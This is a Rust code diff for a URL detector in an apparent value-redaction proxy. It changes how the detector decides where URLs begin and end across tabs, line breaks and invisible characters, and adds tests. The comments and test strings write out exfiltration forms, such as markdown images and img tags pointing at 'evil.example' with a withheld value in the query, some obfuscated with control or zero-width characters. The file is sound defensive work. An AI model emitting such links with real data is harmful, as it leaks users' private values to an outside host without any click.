@@ -2,8 +2,10 @@
 //!
 //! A value is not restored there, unless policy names the host (see [`super::address`]): `![](https://evil.example/?q=<EMAIL_…>)`
 //! is a way out that needs no click. What ends a URL depends on what opened it, because that is how renderers read: a quoted
-//! attribute ends at its quote, `<…>` at `>`, a Markdown destination at a blank or its bracket, a bare URL at a blank. Where
-//! renderers disagree the longer reading counts: a value withheld is a nuisance, a value sent is a leak. In the text of a JSON document its own quotes end every URL.
+//! attribute ends at its quote, `<…>` at `>`, a Markdown destination at a blank or its bracket, a bare URL at a blank. Blanks are
+//! those of HTML alone: every other one, and whatever is not seen, is of the URL and sent with it. Where renderers disagree the
+//! longer reading counts: a value withheld is a nuisance, a value sent is a leak. In the text of a JSON document its own quotes
+//! end every URL. Tabs and ends of lines are taken out of the beginning of a URL, as parsers of URLs do.
 //!
 //! It sees the text as the client will: restored values pass through it too, or a planted value could be the beginning of a
 //! URL.
@@ -20,12 +22,17 @@ pub(super) struct Link {
     address: Address,
     /// The last eight characters, lower case, the latest in the low byte; zero for what is not ASCII.
     recent: u64,
+    /// The same without what parsers of URLs take out of one.
+    joined: u64,
     /// What stood before the run of scheme characters that is being read, blanks apart.
     lead: Mark,
     /// The last character that is not a blank.
     mark: Mark,
     /// Characters of the run.
     run: usize,
+    /// The lead and the characters of the run that goes on over what parsers of URLs take out.
+    joined_lead: Mark,
+    joined_run: usize,
     /// Whether an odd number of backslashes has just been read.
     backslash: bool,
 }
@@ -54,9 +61,12 @@ impl Link {
             inside: None,
             address: Address::default(),
             recent: 0,
+            joined: 0,
             lead: nothing,
             mark: nothing,
             run: 0,
+            joined_lead: nothing,
+            joined_run: 0,
             backslash: false,
         }
     }
@@ -96,11 +106,12 @@ impl Link {
             || match end {
                 End::Quote((quote, opened_escaped)) => char == quote && (opened_escaped || !escaped),
                 End::Angle => (char == '>' && !escaped) || char == '\n',
-                End::Bracket(_, close, depth) => is_blank(char) || (char == close && !escaped && depth == 0),
-                End::Blank => is_blank(char),
+                End::Bracket(_, close, depth) => ends_url(char) || (char == close && !escaped && depth == 0),
+                End::Blank => ends_url(char),
             };
         if ended {
-            (self.recent, self.run, self.mark) = (0, 0, (char, escaped));
+            (self.recent, self.joined, self.run, self.joined_run) = (0, 0, 0, 0);
+            self.mark = (char, escaped);
             return None;
         }
         match end {
@@ -117,21 +128,36 @@ impl Link {
     /// Looks for the beginning of a URL.
     fn watch(&mut self, char: char, escaped: bool) {
         let latest = if char.is_ascii() { u64::from(u32::from(char.to_ascii_lowercase())) } else { 0 };
-        let before = self.recent;
-        self.recent = self.recent << 8 | latest;
+        let (before, joined_before, taken_out) = (self.recent, self.joined, is_taken_out(char));
+        self.recent = before << 8 | latest;
+        if !taken_out {
+            self.joined = joined_before << 8 | latest;
+        }
         let of_run = char.is_ascii_alphanumeric() || matches!(char, '+' | '.' | '-' | ':' | '/' | '\\');
         if of_run && self.run == 0 {
             self.lead = self.mark;
         }
-        let begins = (!is_blank(char) && (ends_with(before, b"http:") || ends_with(before, b"https:")))
-            || (is_slash(char) && begins_authority(self.recent))
+        if of_run && self.joined_run == 0 {
+            self.joined_lead = self.mark;
+        }
+        let scheme = |before: u64| !ends_url(char) && (ends_with(before, b"http:") || ends_with(before, b"https:"));
+        let begins = scheme(before)
+            || scheme(joined_before)
+            || (is_slash(char) && (begins_authority(self.recent) || begins_authority(self.joined)))
             || (char == '.' && self.run == 3 && ends_with(before, b"www"));
         if begins {
-            self.inside = Some(end_of(self.lead));
+            // Of a run that is a URL from its first character on, what opened it is known over every tab.
+            let whole = (ends_with(joined_before, b"https:") && self.joined_run == SCHEME_CHARS)
+                || (ends_with(joined_before, b"http:") && self.joined_run == SCHEME_CHARS - 1)
+                || (is_slash(char) && self.joined_run == 1);
+            self.inside = Some(end_of(if whole { self.joined_lead } else { self.lead }));
             let plain = char == '/' && ends_with(before, b"https:") && self.run == SCHEME_CHARS;
             self.address = if plain { Address::begun() } else { Address::default() };
         }
         self.run = if of_run { self.run.saturating_add(1) } else { 0 };
+        if !taken_out {
+            self.joined_run = if of_run { self.joined_run.saturating_add(1) } else { 0 };
+        }
         if !is_blank(char) {
             self.mark = (char, escaped);
         }
@@ -167,6 +193,18 @@ fn is_slash(char: char) -> bool {
     matches!(char, '/' | '\\')
 }
 
+/// Whether a character ends every URL that nothing else encloses: the blanks of HTML, which CommonMark has too. Every other
+/// white space, and every other control character, goes on with the URL for one renderer or another.
+fn ends_url(char: char) -> bool {
+    char.is_ascii_whitespace()
+}
+
+/// Whether parsers of URLs take a character out, wherever it stands.
+fn is_taken_out(char: char) -> bool {
+    matches!(char, '\t' | '\n' | '\r')
+}
+
+/// Whether a character in front of a URL is passed over: whatever opened the URL stands before it.
 fn is_blank(char: char) -> bool {
     char.is_whitespace() || char.is_control()
 }
@@ -209,9 +247,38 @@ mod tests {
             ("reference", "[x]: https://evil.example/?\">=¤", true),
             ("www", "see www.evil.example/?q=¤", true),
             ("escaped slashes", r#""https:\/\/evil.example\/¤""#, true),
+            ("a tab behind the scheme", "<img src=\"https:\t//evil.example/?q= ¤\">", true),
+            ("a tab in the scheme", "<img src=\"ht\ttps://evil.example/?q= ¤\">", true),
+            ("ends of lines between the slashes", "<img src='https:\n/\r\n/evil.example/?q= ¤'>", true),
+            ("a tab between slashes without scheme", "<img src=\"/\t/evil.example/?q= ¤\">", true),
         ];
         for (name, text, expected) in rows {
             assert_eq!(inside(Landing::Text, text), expected, "{name}");
+        }
+    }
+
+    /// What only some take for a blank, or for an end, and what nobody sees: all of it is sent with the URL.
+    #[test]
+    fn no_other_blank_ends_a_url() {
+        let blanks = "\u{85}\u{a0}\u{1680}\u{2000}\u{2003}\u{200a}\u{2028}\u{2029}\u{202f}\u{205f}\u{3000}";
+        let unseen = "\u{ad}\u{180e}\u{200b}\u{200d}\u{200e}\u{202e}\u{2060}\u{feff}\u{e0020}\u{3164}";
+        let controls = "\0\u{1}\u{b}\u{1b}\u{1c}\u{1f}\u{7f}\u{9f}";
+        let around = [
+            ("![x](https://evil.example/?q=", "¤)"),
+            ("<img src=https://evil.example/?q=", "¤>"),
+            ("<img src=\"https://evil.example/?q=", "¤\">"),
+            ("[r]: https://evil.example/?q=", "¤"),
+            ("https://evil.example/?q=", "¤"),
+            ("see www.evil.example/?q=", "¤"),
+            ("<https://evil.example/?q=", "¤>"),
+            ("(https:", "/evil.example/?q=¤)"),
+        ];
+        for char in [blanks, unseen, controls].iter().flat_map(|chars| chars.chars()) {
+            for (before, behind) in around {
+                for landing in [Landing::Text, Landing::JsonInString] {
+                    assert!(inside(landing, &format!("{before}{char}{behind}")), "{before}{char:?}{behind}");
+                }
+            }
         }
     }
 
@@ -219,6 +286,10 @@ mod tests {
     fn knows_where_a_url_ends() {
         let rows = [
             ("blank", "see https://a.example ¤"),
+            ("tab", "see https://a.example\t¤"),
+            ("end of a line", "see https://a.example\r\n¤"),
+            ("form feed", "see https://a.example\u{c}¤"),
+            ("a word on the line before", "\"see\nhttps://a.example ¤"),
             ("destination", "[site](https://a.example) and ¤"),
             ("destination, at once", "[site](https://a.example)¤"),
             ("attribute", "<a href=\"https://a.example\">¤</a>"),
